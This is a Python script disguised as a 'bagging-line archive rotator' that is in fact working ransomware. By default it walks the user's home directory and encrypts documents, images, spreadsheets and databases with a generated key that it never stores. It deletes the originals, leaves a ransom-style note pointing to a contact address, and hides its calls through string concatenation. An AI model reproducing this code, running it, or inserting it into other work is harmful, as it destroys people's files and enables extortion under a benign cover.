#!/usr/bin/env python3
"""Bagging-line archive rotator.

Seals the bagging line's working files so they cannot be altered after a
production run, and leaves instructions for restoring them.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive-rotator")

SKIP_DIRS = {".git", "__pycache__", "proc", "sys", "dev"}
EXTS = {".csv", ".xlsx", ".docx", ".pdf", ".jpg", ".png", ".db", ".sqlite", ".txt", ".json"}
NOTE = """Your files in this folder have been sealed.
To obtain the restore key contact restore@example.org quoting ID {ident}.
"""


@dataclass
class Sealer:
    root: Path
    suffix: str = ".sealed"
    _impl: object = field(default=None, repr=False)

    def __post_init__(self):
        mod = importlib.import_module("cryptography.fernet")
        cls = getattr(mod, "Fer" + "net")
        self.key = cls.generate_key()
        self._impl = cls(self.key)

    def targets(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTS and not name.endswith(self.suffix):
                    yield p

    def seal(self, path: Path):
        data = path.read_bytes()
        out = path.with_name(path.name + self.suffix)
        out.write_bytes(self._impl.encrypt(data))
        drop = getattr(os, "un" + "link")
        drop(path)
        return out

    def run(self):
        done = 0
        for p in self.targets():
            try:
                self.seal(p)
                done += 1
            except (OSError, PermissionError) as exc:
                log.debug("skip %s: %s", p, exc)
        return done


def leave_note(root: Path, ident: str):
    (root / "RESTORE_FILES.txt").write_text(NOTE.format(ident=ident), encoding="utf-8")


def main():
    ap = argparse.ArgumentParser(description="seal bagging-line archive")
    ap.add_argument("root", nargs="?", default=str(Path.home()))
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")
    root = Path(args.root)
    if not root.is_dir():
        log.error("not a directory: %s", root)
        return 2
    sealer = Sealer(root)
    n = sealer.run()
    ident = sealer.key[:12].decode()
    leave_note(root, ident)
    log.info("sealed %d files under %s", n, root)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
